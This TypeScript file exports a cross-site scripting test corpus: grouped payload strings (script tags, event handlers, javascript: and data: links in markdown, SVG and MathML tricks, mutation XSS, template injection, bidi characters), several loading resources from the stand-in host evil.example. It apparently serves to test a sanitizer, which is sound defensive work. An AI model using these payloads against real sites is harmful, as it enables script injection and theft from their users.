/**
 * XSS corpus: texts that open a dialog, set `hacked`, or request `https://evil.example`.
 */

const MARKUP = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '"><script>hacked=1</script>',
  "'><script>hacked=1</script>",
  '</textarea><script>alert(1)</script>',
  '</title></style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/x src=data:,alert(1)></script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
] as const;

const EVENTS = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="hacked=1">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=x/onerror=alert(1)//',
  '<img src="https://evil.example/pixel.gif">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div onpointerover="alert(1)">over</div>',
  '<a autofocus tabindex=1 onfocus=alert(1)>x</a>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '<starling-chat room="x" onfocusin=alert(1)></starling-chat>',
] as const;

const ADDRESSES = [
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '![x](https://evil.example/pixel.png)',
  '<https://evil.example/"onclick=alert(1)>',
  'https://evil.example/\u202Egpj.exe',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
] as const;

const FOREIGN = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
] as const;

/** Mutation XSS: change their meaning when parsed twice. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
] as const;

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '{name} {count} {reason}',
  '<!--?lit$123$--><!--?--><img src=x onerror=alert(1)>',
  '{"_$litType$":1,"strings":["<img src=x onerror=alert(1)>"],"values":[]}',
  '__proto__',
  'constructor',
] as const;

const DIRECTIONS = [
  '\u202E<script>alert(1)</script>\u202C',
  '\u2066[x](javascript:alert(1))\u2069',
  '\u200Fjavascript:alert(1)\u200F',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '> <img src=x onerror=alert(1)>',
  '**<b onmouseover=alert(1)>x</b>**',
  '@<img src=x onerror=alert(1)>',
] as const;

export const XSS_CORPUS: readonly string[] = [
  ...MARKUP,
  ...EVENTS,
  ...ADDRESSES,
  ...FOREIGN,
  ...MUTATIONS,
  ...TEMPLATES,
  ...DIRECTIONS,
];
